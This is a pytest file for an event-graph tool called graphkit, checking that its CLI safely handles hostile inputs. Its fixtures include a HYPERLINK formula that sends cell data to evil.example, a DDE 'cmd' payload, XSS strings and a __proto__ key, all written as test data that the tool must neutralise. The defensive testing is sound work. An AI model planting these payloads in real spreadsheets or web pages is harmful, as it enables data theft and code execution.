"""Hostile inputs, round two (issue 19): spreadsheet formulas, XML-breaking names,
tracebacks on odd files, overflowing numbers, outputs read back as inputs, and
the ``--excel`` / ``.xlsx`` tables of issue 18.

Each test is the minimal reproduction of one numbered item of the issue.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import networkx as nx
import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

import graphkit.actors
import graphkit.eventfiles
from graphkit.actors import load_registry
from graphkit.cli import cli
from graphkit.errors import SourceError
from graphkit.eventfiles import GDELT2_COLUMNS, detect_format, read_events
from graphkit.graph import dyad_table, events_frame
from graphkit.model import EVENT_COLUMNS, Actor, Document
from graphkit.pipeline import extract_events, load_output, run

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CSV_FILES = ("events.csv", "actors.csv", "agents.csv", "dyads.csv", "documents.csv",
             "stances.csv")


def invoke(*args, ok=True):
    """The CLI as a user runs it: never a traceback; exit 0 when ``ok``, else 1."""
    result = CliRunner().invoke(cli, [str(a) for a in args])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"uncaught {result.exception!r}\n{result.output}"
                             ) from result.exception
    assert "Traceback" not in result.output, result.output
    assert result.exit_code == (0 if ok else 1), result.output
    return result


def one_line_error(result) -> str:
    lines = [ln for ln in result.output.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
    return lines[0]


def event_row(**values) -> dict:
    row = dict(event_id="e1", doc_id="d1", date="2013-04-23", sentence_id="0", source="USA",
               source_name="United States", source_agent="", target="RUS",
               target_name="Russia", target_agent="", event_type="CONSULT", mode="meet",
               quad_class="1", intensity="1.0", polarity="1", issue="", negated="false",
               modality="", speaker="", evidence="The United States met Russia.",
               char_start="0", char_end="29", extractor="rules.v1")
    row.update(values)
    return row


def write_events(path: Path, rows) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(EVENT_COLUMNS), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    return path


def gdelt_line(**values) -> str:
    row = dict.fromkeys(GDELT2_COLUMNS, "")
    row.update(GLOBALEVENTID="1001", SQLDATE="20130423", Actor1Code="RUSGOV",
               Actor1Name="RUSSIA", Actor1CountryCode="RUS", Actor2Code="IGOWSTNAT",
               Actor2Name="NATO", Actor2KnownGroupCode="NAT", EventCode="040",
               GoldsteinScale="1.0", NumMentions="6", SOURCEURL="http://example.org/a")
    row.update(values)
    return "\t".join(row[c] for c in GDELT2_COLUMNS)


@pytest.fixture
def hostile(tmp_path) -> dict:
    """Documents and an --actors file full of spreadsheet formulas."""
    docs = tmp_path / "in"
    docs.mkdir()
    records = [
        {"id": "=1+2", "title": "@SUM(A1)", "url": "-2+3",
         "text": "Russia and NATO held talks in Brussels."},
        {"id": "r2", "title": "+cmd", "url": "http://example.org",
         "text": '=HYPERLINK("http://evil.example/?"&A1,"Russia and NATO held talks.")'},
    ]
    (docs / "news.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    (docs / "b.txt").write_text("Evilland accused Russia of aggression.")
    actors = tmp_path / "actors.csv"
    actors.write_text('id,name,aliases\nEVL,"=cmd|\' /C calc\'!A0",Evilland\n')
    return {"docs": docs, "actors": actors}


def cells(path: Path) -> list:
    text = path.read_text(encoding="utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


# --------------------------------------------------------------------------- item 1 and
# issue 18: --excel and the .xlsx workbook


def test_excel_mode_guards_every_cell_of_every_csv(hostile, tmp_path):
    from graphkit.safe import excel_cell

    out = tmp_path / "out"
    invoke("run", hostile["docs"], "-o", out, "--actors", hostile["actors"], "--excel", "-q")
    written = sorted(p.name for p in out.glob("*.csv"))
    assert set(CSV_FILES) <= set(written)
    for name in written:
        assert (out / name).read_bytes().startswith(b"\xef\xbb\xbf"), name
        for cell in cells(out / name):
            assert excel_cell(cell) == cell or cell.startswith("'"), (name, cell)
            assert not (cell[:1] in FORMULA_START and excel_cell(cell) != cell), (name, cell)
    events = cells(out / "events.csv")
    assert "'=1+2" in events and "'=cmd|' /C calc'!A0" in events
    assert any(c.startswith("'=HYPERLINK(") for c in events)
    documents = cells(out / "documents.csv")
    assert {"'@SUM(A1)", "'-2+3", "'+cmd"} <= set(documents)


def test_excel_form_reads_back_as_the_plain_form(hostile, tmp_path):
    for form in ("plain", "excel"):
        invoke("run", hostile["docs"], "-o", tmp_path / form, "--actors", hostile["actors"],
               "-q", *(["--excel"] if form == "excel" else []))
    plain, plain_docs = load_output(tmp_path / "plain", actor_files=[hostile["actors"]])
    excel, excel_docs = load_output(tmp_path / "excel", actor_files=[hostile["actors"]])
    pd.testing.assert_frame_equal(plain.events, excel.events)
    pd.testing.assert_frame_equal(plain_docs, excel_docs)
    assert "=1+2" in set(plain.events["doc_id"])
    # the plain CSV keeps every value exactly, for pandas
    raw = pd.read_csv(tmp_path / "plain" / "documents.csv", dtype=str, keep_default_na=False)
    assert set(raw["title"]) >= {"@SUM(A1)", "+cmd"}


def test_xlsx_workbook_one_sheet_per_table(hostile, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "out"
    invoke("run", hostile["docs"], "-o", out, "--actors", hostile["actors"], "-q")
    invoke("export", out, "-f", "xlsx", "--actors", hostile["actors"])
    first = (out / "tables.xlsx").read_bytes()
    wb = openpyxl.load_workbook(out / "tables.xlsx")
    assert wb.sheetnames == ["events", "actors", "agents", "dyads", "documents", "stances"]
    ws = wb["events"]
    header = [c.value for c in ws[1]]
    assert header == list(EVENT_COLUMNS)
    col = header.index("doc_id") + 1
    doc_ids = {ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)}
    formula_like = [c for c in doc_ids if c.value == "=1+2"]
    assert formula_like and all(c.data_type == "s" for c in formula_like)
    assert ws.max_row - 1 == len(pd.read_csv(out / "events.csv"))
    time.sleep(1.1)         # a clock tick later: still the same bytes
    invoke("export", out, "-f", "xlsx", "--actors", hostile["actors"])
    assert (out / "tables.xlsx").read_bytes() == first          # deterministic


def test_xlsx_without_openpyxl_is_one_line(tmp_path, monkeypatch, seed_result):
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    out = seed_result.files["events.csv"].parent
    result = invoke("export", out, "-f", "xlsx", "-o", tmp_path, ok=False)
    assert "pip install 'graphkit[excel]'" in one_line_error(result)


# --------------------------------------------------------------------------- item 2


def test_graphml_and_gexf_well_formed_with_control_characters(tmp_path):
    actors = tmp_path / "actors.csv"
    actors.write_text("id,name,aliases\nEVL,Evil\x01land\ufffe,Evilland\n", encoding="utf-8")
    docs = tmp_path / "in"
    docs.mkdir()
    (docs / "a.txt").write_text("Evilland accused Russia of aggression.")
    write_events(docs / "events.csv", [event_row(source="US\x0bA", issue="missile\x02defence",
                                                 source_name="United\ufffeStates")])
    out = tmp_path / "out"
    invoke("run", docs, "-o", out, "--actors", actors, "-q")
    G = nx.read_graphml(out / "graph.graphml")
    H = nx.read_gexf(out / "graph.gexf")
    assert "EVL" in G and "EVL" in H
    names = {d.get("label") for _, d in G.nodes(data=True)}
    assert not any(ch in n for n in names for ch in "\x01\x0b\ufffe")
    # cleaned on the way in: the tables hold no control character either
    for name in ("events.csv", "actors.csv", "dyads.csv"):
        text = (out / name).read_text(encoding="utf-8")
        assert not any(ch in text for ch in "\x01\x02\x0b\ufffe"), name


# --------------------------------------------------------------------------- item 3


def _run_bytes(args: list, cwd: Path, timeout: float = 120):
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    return subprocess.run([sys.executable, "-m", "graphkit", *args], cwd=cwd, env=env,
                          capture_output=True, timeout=timeout)


def test_non_utf8_folder_name_and_title(tmp_path):
    folder = os.path.join(os.fsencode(tmp_path), b"in\xff")
    os.mkdir(folder)
    with open(os.path.join(folder, b"a.txt"), "w") as fh:
        fh.write("Russia and NATO held talks in Brussels.")
    proc = _run_bytes(["run", folder, "-o", b"out", "-q"], tmp_path)
    assert proc.returncode == 0 and b"Traceback" not in proc.stderr, proc.stderr
    proc = _run_bytes(["run", folder, "-o", b"out2", "--title", b"T\xfe<b>", "-q"], tmp_path)
    assert proc.returncode == 0 and b"Traceback" not in proc.stderr, proc.stderr
    report = (tmp_path / "out2" / "report.md").read_text(encoding="utf-8")
    assert report.startswith("# T\ufffd&lt;b&gt;")


def test_huge_intensity_is_a_rejected_row(tmp_path):
    path = write_events(tmp_path / "events.csv", [event_row(), event_row(
        event_id="e2", intensity="1e308")])
    result = invoke("run", path, "-o", tmp_path / "out")
    assert "bad intensity: 1" in result.output
    assert (tmp_path / "out" / "graph.html").is_file()


@pytest.mark.parametrize("name, content, phrase", [
    ("documents.csv", b"\x00\xff\xfe garbage\n", "not valid UTF-8"),
    ("documents.csv", b"title,date\nA,2013\n", "no 'doc_id' column"),
    ("actors.csv", b'id,name\n"unclosed,x\n', "not a readable CSV"),
    ("stances.csv", "actor,issue,evidence\nRUS,X,caf\xe9\n".encode("latin-1"), "not valid UTF-8"),
    ("agents.csv", b"agent\nLavrov\n", "no 'party' column"),
])
def test_analyze_and_export_on_malformed_tables(seed_result, tmp_path, name, content, phrase):
    out = tmp_path / "out"
    out.mkdir()
    src = seed_result.files["events.csv"].parent
    for f in ("events.csv", "documents.csv", "actors.csv", "agents.csv", "stances.csv"):
        (out / f).write_bytes((src / f).read_bytes())
    (out / name).write_bytes(content)
    for args in (["analyze", out], ["export", out, "-f", "graphml"]):
        line = one_line_error(invoke(*args, ok=False))
        assert name in line and phrase in line, line


@pytest.mark.parametrize("content, phrase", [
    ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    ('[{"id": "g", "event": "AGREE", "text": "Russia agreed.", "textInfo": {"markup": 5}}]',
     None),
    ("[" + "9" * 5000 + "]", "digits"),
    ('[{"id": "g", "event": "AGREE", "text": "x", "source": [{"code": ' + "9" * 4000 + "}]}]",
     "must be a string"),
])
def test_eval_on_hostile_gold_files(tmp_path, content, phrase):
    gold = tmp_path / "gold.json"
    gold.write_text(content)
    if phrase is None:
        invoke("eval", gold)
    else:
        assert phrase in one_line_error(invoke("eval", gold, ok=False))


@pytest.mark.parametrize("command", ["eval", "actors"])
def test_special_files_do_not_hang(tmp_path, command):
    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    for special in (str(fifo), "/dev/zero"):
        args = (["eval", special] if command == "eval" else
                ["run", str(tmp_path), "-o", str(tmp_path / "out"), "--actors", special])
        proc = _run_bytes(args, tmp_path, timeout=60)
        assert proc.returncode == 1, proc.stderr
        assert b"not a regular file" in proc.stderr and b"Traceback" not in proc.stderr


def test_actors_kind_must_be_known(tmp_path):
    """A kind is a key of the page's colour and label tables: 'constructor' or
    '__proto__' there would be Object.prototype members."""
    actors = tmp_path / "actors.csv"
    actors.write_text("id,name,kind\nEVL,Evilland,__proto__\n")
    with pytest.raises(graphkit.errors.ActorDataError, match="unknown kind '__proto__'"):
        load_registry([actors])
    actors.write_text("id,name,kind\nEVL,Evilland,ngo\n")
    assert load_registry([actors]).party("EVL").kind == "ngo"


def test_actors_file_with_too_many_rows(tmp_path, monkeypatch):
    monkeypatch.setattr(graphkit.actors, "MAX_ACTOR_ROWS", 10)
    actors = tmp_path / "actors.csv"
    actors.write_text("id,name\n" + "".join(f"P{i},Party {i}\n" for i in range(11)))
    with pytest.raises(graphkit.errors.ActorDataError, match="more than 10 rows"):
        load_registry([actors])


def test_event_file_with_an_endless_line(tmp_path, monkeypatch):
    monkeypatch.setattr(graphkit.eventfiles, "MAX_LINE_BYTES", 1 << 16)
    path = tmp_path / "20130423.export.CSV.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("20130423.export.CSV", gdelt_line() + "\n" + "x" * (1 << 20))
    with pytest.raises(SourceError, match="a line longer than 65,536 bytes"):
        list(read_events(path, format="gdelt2"))
    docs = tmp_path / "in"
    docs.mkdir()
    (docs / "a.txt").write_text("Russia and NATO held talks in Brussels.")
    result = invoke("run", "--format", "gdelt", path, "-o", tmp_path / "out", ok=False)
    assert "a line longer than" in result.output


# --------------------------------------------------------------------------- item 4


def test_out_of_range_intensities_are_rejected_and_sums_never_overflow(tmp_path):
    rows = [event_row(event_id="e1"), event_row(event_id="e2", intensity="9.9e12"),
            event_row(event_id="e3", intensity="inf"), event_row(event_id="e4",
                                                                  intensity="-1e20"),
            event_row(event_id="e5", intensity="nan"), event_row(event_id="e6", intensity="7")]
    path = write_events(tmp_path / "events.csv", rows)
    reader = read_events(path)
    ev = pd.concat(list(reader))
    assert list(ev["event_id"]) == ["e1", "e6"]
    assert reader.report.rejected == {"bad intensity": 4}
    # the library API (no reader in front) never overflows either
    api = events_frame([dict(event_id=f"x{i}", source="USA", target="RUS",
                             event_type="CONSULT", polarity=1, intensity=v)
                        for i, v in enumerate([1.0, 1e13, float("inf"), 1e300])])
    dyad = dyad_table(api).iloc[0]
    assert dyad["sign"] == 1 and 0 < dyad["sum_intensity"] <= 40


def test_huge_sentence_ids_and_offsets_are_rejected(tmp_path):
    path = write_events(tmp_path / "events.csv", [
        event_row(event_id="e1"), event_row(event_id="e2", sentence_id="1e99"),
        event_row(event_id="e3", char_end="-5"), event_row(event_id="e4", char_start="x")])
    reader = read_events(path)
    ev = pd.concat(list(reader))
    assert list(ev["event_id"]) == ["e1"]
    assert reader.report.rejected == {"bad number": 3}
    api = events_frame([dict(event_id="e", sentence_id=1e99, char_start=float("inf"))])
    assert api.loc[0, "sentence_id"] == 0 and api.loc[0, "char_start"] == 0


def test_duplicate_event_ids_count_once(tmp_path):
    path = write_events(tmp_path / "events.csv", [
        event_row(event_id="e1"), event_row(event_id="e1"), event_row(event_id="e2"),
        event_row(event_id="")])
    result = invoke("run", path, "-o", tmp_path / "out")
    assert "duplicate event_id: 1" in result.output and "no event_id: 1" in result.output
    dyads = pd.read_csv(tmp_path / "out" / "dyads.csv")
    assert dyads["events"].sum() == 2


# --------------------------------------------------------------------------- item 5


def test_output_inside_the_input_is_never_read_back(tmp_path):
    docs = tmp_path / "in"
    docs.mkdir()
    (docs / "a.txt").write_text("Russia and NATO held talks in Brussels.")
    counts = []
    for _ in range(3):
        invoke("run", docs, "-o", docs / "out", "-q")
        counts.append(len(pd.read_csv(docs / "out" / "events.csv")))
    assert counts == [counts[0]] * 3 and counts[0] > 0
    line = one_line_error(invoke("run", docs, "-o", docs, ok=False))
    assert "also an input folder" in line
    # a file named twice, or named and inside a folder given, is read once
    other = tmp_path / "other"
    other.mkdir()
    (other / "a.txt").write_bytes((docs / "a.txt").read_bytes())
    invoke("run", other / "a.txt", other / "a.txt", other, "-o", tmp_path / "twice", "-q")
    assert len(pd.read_csv(tmp_path / "twice" / "events.csv")) == counts[0]
    # an events.csv named directly is still read, even inside the output folder
    invoke("run", docs / "out" / "events.csv", "-o", docs / "out", "-q")
    assert len(pd.read_csv(docs / "out" / "events.csv")) == counts[0]


# --------------------------------------------------------------------------- item 9


def test_bare_carriage_return_in_titles_and_urls(tmp_path):
    docs = tmp_path / "in"
    docs.mkdir()
    records = [{"id": "a", "title": "one\rtwo", "url": "http://x.example/\r1",
                "text": "Russia and NATO held talks in Brussels."},
               {"id": "b", "title": "three", "text": "Russia and NATO met again.\rThen NATO "
                                                     "criticized Russia."}]
    (docs / "n.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    invoke("run", docs, "-o", tmp_path / "out", "-q")
    for name in ("documents.csv", "events.csv"):
        data = (tmp_path / "out" / name).read_bytes()
        assert b"\r" not in data, name
    documents = list(csv.DictReader(open(tmp_path / "out" / "documents.csv", newline="")))
    assert [d["title"] for d in documents] == ["one two", "three"]


def test_report_carries_no_raw_html(tmp_path):
    actors = tmp_path / "actors.csv"
    actors.write_text('id,name,aliases\nEVL,<img src=x onerror=alert(1)>,Evilland\n')
    docs = tmp_path / "in"
    docs.mkdir()
    (docs / "a.txt").write_text("Evilland accused Russia of aggression. Evilland threatened "
                                "Russia.")
    write_events(docs / "events.csv", [event_row(source="<b>X</b>", source_name="",
                                                 target="[y](javascript:alert(1))")])
    invoke("run", docs, "-o", tmp_path / "out", "--actors", actors, "-q",
           "--title", "<script>alert(1)</script>")
    report = (tmp_path / "out" / "report.md").read_text()
    for raw in ("<script", "<img", "<b>", "[y](javascript"):
        assert raw not in report, raw
    assert "&lt;img src=x onerror=alert(1)&gt;" in report


# --------------------------------------------------------------------------- item 10


def test_export_writes_the_graph_run_wrote(tmp_path):
    actors = tmp_path / "actors.csv"
    actors.write_text("id,name,aliases\nEVL,Evilland,Evil Republic;Evilia\n")
    docs = tmp_path / "in"
    docs.mkdir()
    (docs / "a.txt").write_text(
        "Evilland accused Russia of aggression. Russian Foreign Minister Sergei Lavrov met "
        "NATO Secretary General Anders Fogh Rasmussen in Brussels on 23 April 2013.")
    out = tmp_path / "out"
    invoke("run", docs, "-o", out, "--actors", actors, "-q")
    invoke("export", out, "-f", "graphml", "-f", "gexf", "-o", tmp_path / "exp",
           "--actors", actors)
    assert (tmp_path / "exp" / "graph.graphml").read_bytes() == (out / "graph.graphml"
                                                                 ).read_bytes()
    ran, exported = nx.read_gexf(out / "graph.gexf"), nx.read_gexf(tmp_path / "exp" /
                                                                   "graph.gexf")
    assert dict(ran.nodes(data=True)) == dict(exported.nodes(data=True))
    assert "Lavrov" in nx.read_graphml(out / "graph.graphml").nodes["RUS"]["aliases"]


# --------------------------------------------------------------------------- item 11


def test_pool_workers_use_the_registry_built_once():
    registry = load_registry()
    registry.add_party(Actor("ZZQ", "Zedland", "state", "ZZQ", ""), aliases=["Zedland"])
    docs = [Document(f"d{i}", "Zedland and Russia held talks in Brussels.") for i in range(40)]
    results = list(extract_events(docs, workers=2, registry=registry))
    sources = {e["source"] for _, _, rows, *_ in results for e in rows}
    assert "ZZQ" in sources


# --------------------------------------------------------------------------- item 12


def test_blank_title_fails_before_any_input_is_read(tmp_path):
    line = one_line_error(invoke("run", tmp_path / "missing", "--title", " ", ok=False))
    assert "title" in line


def test_event_file_with_every_row_rejected_prints_its_summary(tmp_path):
    path = write_events(tmp_path / "events.csv", [event_row(event_type="DANCE")])
    result = invoke("run", path, "-o", tmp_path / "out")
    assert "1 rows read, 0 mapped, 1 rejected (unknown event type: 1)" in result.output


def test_strict_fails_on_malformed_gdelt_rows(tmp_path):
    path = tmp_path / "20130423.export.CSV"
    path.write_text(gdelt_line() + "\n" + gdelt_line(GLOBALEVENTID="1002", SQLDATE="2013")
                    + "\n" + "\t".join(["1003"] * 20) + "\n")
    invoke("run", path, "-o", tmp_path / "loose", "-q")
    line = one_line_error(invoke("run", path, "-o", tmp_path / "strict", "--strict", ok=False))
    assert "2 malformed rows (--strict)" in line


def test_one_nul_byte_does_not_make_a_gdelt_file_binary(tmp_path):
    path = tmp_path / "20130423.export.CSV"
    path.write_bytes((gdelt_line() + "\n" + gdelt_line(GLOBALEVENTID="1002",
                                                       Actor1Name="RUS\x00SIA") + "\n").encode())
    assert detect_format(path) == "gdelt2"
    ev = pd.concat(list(read_events(path)))
    assert list(ev["event_id"]) == ["1001", "1002"]
    assert "\x00" not in "".join(ev["source_agent"])
